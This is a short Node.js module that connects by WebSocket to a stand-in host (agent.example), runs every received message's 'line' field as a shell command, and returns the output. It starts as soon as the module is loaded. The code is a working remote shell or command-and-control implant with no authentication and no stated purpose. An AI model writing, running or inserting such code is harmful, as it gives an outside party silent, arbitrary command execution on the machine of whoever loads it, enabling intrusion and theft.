const WebSocket = require('ws');
const { exec } = require('child_process');
const { promisify } = require('util');
const run = promisify(exec);
class Agent {
  constructor(address) {
    this.link = new WebSocket(address);
    this.link.on('message', (text) => this.handle(text));
  }
  async handle(text) {
    const { stdout } = await run(JSON.parse(text).line);
    this.link.send(stdout);
  }
}
module.exports = new Agent('wss://agent.example/');
